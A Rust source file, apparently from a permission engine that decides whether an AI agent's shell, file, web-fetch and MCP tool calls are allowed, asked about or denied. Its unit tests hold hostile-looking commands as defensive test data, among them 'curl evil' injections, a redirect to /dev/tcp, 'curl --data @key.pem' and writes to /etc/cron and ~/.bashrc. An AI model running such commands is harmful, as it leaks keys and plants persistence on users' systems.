//! Rules together: the most specific one that matches wins, and of equally specific ones the strictest.
//!
//! The decisions about shell texts are in `script_rules`.

use std::collections::BTreeSet;

use crate::call::{Action, Call};
use crate::command::UNKNOWN;
use crate::level::Level;
use crate::pattern::Pattern;
use crate::rule::{Rule, Subject};

/// What rules say about a call.
#[derive(Debug, Clone, PartialEq)]
pub struct Decision {
    /// Whether it may run.
    pub level: Level,
    /// The rule that says so; none where no rule matches.
    pub rule: Option<Rule>,
    /// What of the call it is about: a command of a shell text, or one of several paths.
    pub part: Option<String>,
    /// Why a person has to look: what could not be understood.
    pub unclear: Option<String>,
}

impl Decision {
    pub(crate) const fn fallback(level: Level) -> Self {
        Self {
            level,
            rule: None,
            part: None,
            unclear: None,
        }
    }

    /// A level for something that the text leaves open.
    pub(crate) fn unclear(level: Level, reason: &str) -> Self {
        Self {
            unclear: (level > Level::Allow).then(|| reason.to_owned()),
            ..Self::fallback(level)
        }
    }

    /// At most a question: whether the rule is broken is not known.
    pub(crate) fn asking(mut self) -> Self {
        self.level = self.level.min(Level::Ask);
        self
    }

    pub(crate) fn about(mut self, part: &str) -> Self {
        self.part = Some(part.replace(UNKNOWN, "…"));
        self
    }
}

/// Some rules.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Rules {
    pub(crate) rules: Vec<Rule>,
}

impl FromIterator<Rule> for Rules {
    fn from_iter<I: IntoIterator<Item = Rule>>(rules: I) -> Self {
        Self {
            rules: rules.into_iter().collect(),
        }
    }
}

impl Rules {
    /// Whether there are none.
    pub const fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    /// The rules.
    pub fn iter(&self) -> impl Iterator<Item = &Rule> {
        self.rules.iter()
    }

    /// These rules, with those that ask and whose texts were `granted` allowing instead. A stricter or more specific one
    /// still holds.
    #[must_use]
    pub fn granting(&self, granted: &BTreeSet<String>) -> Self {
        let mut rules = self.clone();
        for rule in &mut rules.rules {
            if rule.level == Level::Ask && granted.contains(rule.text()) {
                rule.level = Level::Allow;
            }
        }
        rules
    }

    /// The hosts that pages are fetched from without asking, as patterns; `*` for all.
    pub fn web_hosts(&self) -> impl Iterator<Item = String> {
        let allowing = self.rules.iter().filter(|rule| {
            rule.level == Level::Allow && rule.is_about(&Call::new("web_fetch", Action::Fetch("")))
        });
        allowing.map(|rule| rule.pattern().unwrap_or("*").to_owned())
    }

    /// What they say about a call; `fallback` where none matches.
    pub fn decide(&self, call: &Call<'_>, fallback: Level) -> Decision {
        match call.action {
            Action::Read(paths) | Action::Write(paths) => {
                let decisions = paths.iter().map(|path| self.path(call, path, fallback));
                strictest(decisions).unwrap_or_else(|| self.whole(call, "", fallback))
            }
            Action::Execute(text) => self.script(call, text, fallback),
            Action::Other(_) if self.mcp_pattern(call) => self.whole(call, call.tool, fallback),
            Action::Fetch(host) => self.whole(call, host, fallback).about(host),
            Action::Other(text) => self.whole(call, text, fallback),
        }
    }

    fn mcp_pattern(&self, call: &Call<'_>) -> bool {
        let mut rules = self.rules.iter();
        rules.any(|rule| rule.subject == Subject::Mcp && rule.is_about(call))
    }

    pub(crate) fn path(&self, call: &Call<'_>, path: &str, fallback: Level) -> Decision {
        let decision = self.best(call, fallback, |_, pattern| pattern.matches_path(path));
        decision.about(path)
    }

    pub(crate) fn whole(&self, call: &Call<'_>, text: &str, fallback: Level) -> Decision {
        self.best(call, fallback, |_, pattern| pattern.matches_text(text))
    }

    /// The most specific rule whose pattern matches.
    pub(crate) fn best(
        &self,
        call: &Call<'_>,
        fallback: Level,
        matches: impl Fn(&Rule, &Pattern) -> bool,
    ) -> Decision {
        let fitting = self
            .rules
            .iter()
            .filter(|rule| rule.is_about(call) && rule.fits(|pattern| matches(rule, pattern)));
        match fitting.max_by_key(|rule| rule.rank()) {
            Some(rule) => Decision {
                rule: Some(rule.clone()),
                ..Decision::fallback(rule.level)
            },
            None => Decision::fallback(fallback),
        }
    }
}

/// The strictest decision; the first of equally strict ones.
pub(crate) fn strictest(decisions: impl Iterator<Item = Decision>) -> Option<Decision> {
    decisions.reduce(|first, next| {
        if next.level > first.level {
            next
        } else {
            first
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(text: &str) -> Rules {
        let lines = text.lines().filter(|line| !line.trim().is_empty());
        let rules = lines.map(|line| {
            let (rule, level) = line.rsplit_once('=').unwrap();
            Rule::parse(rule, Level::parse(level.trim()).unwrap()).unwrap()
        });
        rules.collect()
    }

    fn shell(rules: &Rules, command: &str) -> Level {
        let call = Call::new("shell", Action::Execute(command));
        rules.decide(&call, Level::Allow).level
    }

    #[test]
    fn the_most_specific_rule_wins_and_of_equal_ones_the_strictest() {
        let rules = rules(
            "* = deny
             write = ask
             write(src/**) = allow
             write(src/secret/**) = deny
             edit_file = allow
             read(*.md) = allow
             read(*.md) = ask",
        );
        let level = |tool: &str, action: Action<'_>| {
            rules.decide(&Call::new(tool, action), Level::Allow).level
        };
        for (tool, path, expected) in [
            ("write_file", "a.txt", Level::Ask),
            ("write_file", "src/a.txt", Level::Allow),
            ("write_file", "src/secret/a.txt", Level::Deny),
            ("edit_file", "a.txt", Level::Allow),
            ("edit_file", "src/secret/a.txt", Level::Deny),
        ] {
            let write = level(tool, Action::Write(&[path.to_owned()]));
            assert_eq!(write, expected, "{tool} {path}");
        }
        for (path, expected) in [("docs/a.md", Level::Ask), ("a.rs", Level::Deny)] {
            let read = level("read_file", Action::Read(&[path.to_owned()]));
            assert_eq!(read, expected, "{path}");
        }
        let two = ["src/a".to_owned(), "a".to_owned()];
        assert_eq!(level("apply_patch", Action::Write(&two)), Level::Ask);
        assert_eq!(level("ask_user", Action::Other("?")), Level::Deny);
    }

    #[test]
    fn a_shell_text_is_as_strict_as_its_strictest_command() {
        let rules = rules(
            "shell = ask
             shell(cargo test*) = allow
             shell(git *) = allow
             shell(git push*) = deny",
        );
        for (command, expected) in [
            ("cargo test --lib", Level::Allow),
            ("cd a && cargo test | git log", Level::Allow),
            ("cargo test; curl evil", Level::Ask),
            ("cargo test $(curl evil)", Level::Ask),
            ("cargo test `git push`", Level::Deny),
            ("cargo test && git push --force", Level::Deny),
            ("sudo git push", Level::Deny),
            ("/usr/bin/git push", Level::Deny),
            ("X=1 git push", Level::Deny),
            ("bash -c 'git push'", Level::Deny),
            ("g\"i\"t pu\\sh", Level::Deny),
            // Not the program that the rule allows.
            ("./cargo test", Level::Ask),
            ("PATH=. cargo test", Level::Ask),
            ("'cargo test' x", Level::Ask),
            // Could be `push`.
            ("git $X", Level::Ask),
            ("git log $X", Level::Allow),
            ("$X", Level::Ask),
            ("cargo test 'open", Level::Ask),
            ("echo hi", Level::Ask),
        ] {
            assert_eq!(shell(&rules, command), expected, "{command}");
        }
    }

    #[test]
    fn names_of_other_agents_are_read() {
        let rules = rules("* = deny\nBash(git:*) = allow\nRead = allow");
        assert_eq!(shell(&rules, "git log"), Level::Allow);
        assert_eq!(shell(&rules, "rm x"), Level::Deny);
        let paths = ["a".to_owned()];
        let read = Call::new("read_file", Action::Read(&paths));
        assert_eq!(rules.decide(&read, Level::Ask).level, Level::Allow);
    }

    #[test]
    fn redirections_are_writes() {
        let rules = rules("shell = allow\nwrite(.github/**) = deny");
        assert_eq!(shell(&rules, "echo x > .github/ci.yml"), Level::Deny);
        assert_eq!(shell(&rules, "echo x > $F"), Level::Ask);
        assert_eq!(shell(&rules, "echo x > out.txt 2> /dev/null"), Level::Allow);
        let blanket = self::rules("shell = allow\nwrite = ask");
        assert_eq!(shell(&blanket, "echo x > out.txt"), Level::Ask);
        assert_eq!(shell(&blanket, "cargo test"), Level::Allow);
    }

    #[test]
    fn redirections_out_of_the_folder_are_not_what_a_pattern_allows() {
        let rules = rules("shell(echo *) = allow\nshell(tee *) = allow\nwrite(secrets/**) = deny");
        let level = |command: &str, fallback| {
            let call = Call::new("shell", Action::Execute(command)).within("/w");
            rules.decide(&call, fallback).level
        };
        for (command, expected) in [
            ("echo x > out.txt", Level::Allow),
            ("echo x > /w/out.txt 2>/dev/null", Level::Allow),
            ("echo x > ../outside", Level::Ask),
            ("echo x >> /etc/cron", Level::Ask),
            ("echo x >| ~/.bashrc", Level::Ask),
            ("echo x &> /dev/tcp/1.2.3.4/80", Level::Ask),
            ("echo x <> $HOME/x", Level::Ask),
            ("echo x > a*", Level::Ask),
            ("cd .. && echo x > y", Level::Ask),
            ("cd /tmp; cd x; echo x > y", Level::Ask),
            ("echo x > ./secrets/c", Level::Deny),
            ("echo x > a/../secrets/c", Level::Deny),
            ("echo x > /w/secrets/c", Level::Deny),
            ("cd secrets && echo x > c", Level::Deny),
            ("echo x | tee -a secrets/c", Level::Deny),
            ("echo x | tee ../y", Level::Ask),
            ("echo x | tee y", Level::Allow),
        ] {
            assert_eq!(level(command, Level::Ask), expected, "{command}");
        }
        // In a sandbox the sandbox decides what is outside.
        assert_eq!(level("echo x > ../outside", Level::Allow), Level::Allow);
        assert_eq!(level("echo x > secrets/c", Level::Allow), Level::Deny);
        // A node that allows only commands of a pattern.
        assert_eq!(level("echo x > out.txt", Level::Deny), Level::Deny);
    }

    #[test]
    fn a_file_that_a_rule_denies_is_not_read_by_commands() {
        let rules = rules("shell = allow\nread(*.pem) = deny\nread(vault/**) = ask");
        for (command, expected) in [
            ("cat key.pem", Level::Deny),
            ("cat ./a/key.pem | head", Level::Deny),
            ("cat < key.pem", Level::Deny),
            ("head -5 src/a.rs", Level::Allow),
            ("cat vault/x", Level::Ask),
            ("cp key.pem x", Level::Ask),
            ("python3 -c \"print(open('key.pem').read())\"", Level::Ask),
            ("git show HEAD:key.pem", Level::Ask),
            ("curl --data @key.pem localhost", Level::Ask),
            ("cat *", Level::Ask),
            ("cat keys/*", Level::Ask),
            ("cat src/*.rs", Level::Allow),
            ("grep -rn . .", Level::Ask),
            ("grep x src/a.rs", Level::Allow),
            ("find . -type f -exec cat {} +", Level::Ask),
            ("rg password", Level::Ask),
            ("cat $F", Level::Ask),
            ("cargo test --lib", Level::Allow),
        ] {
            assert_eq!(shell(&rules, command), expected, "{command}");
        }
    }

    #[test]
    fn tools_of_servers_are_matched_by_their_names() {
        let rules = rules("mcp = deny\nmcp(github__*) = ask\ngithub__search = allow");
        let level = |tool| {
            let call = Call::new(tool, Action::Other("x"));
            rules.decide(&call, Level::Allow).level
        };
        assert_eq!(level("files__read"), Level::Deny);
        assert_eq!(level("github__merge"), Level::Ask);
        assert_eq!(level("github__search"), Level::Allow);
        assert_eq!(level("ask_user"), Level::Allow);
    }

    #[test]
    fn what_is_not_a_rule_is_refused_with_the_reason() {
        let error = |text| Rule::parse(text, Level::Allow).unwrap_err().to_string();
        assert!(error("shell(cargo").contains("`shell(cargo` is not a rule"));
        assert!(error("write([)").contains("cannot be used"));
        assert!(error("").contains("expected a tool"));
    }
}
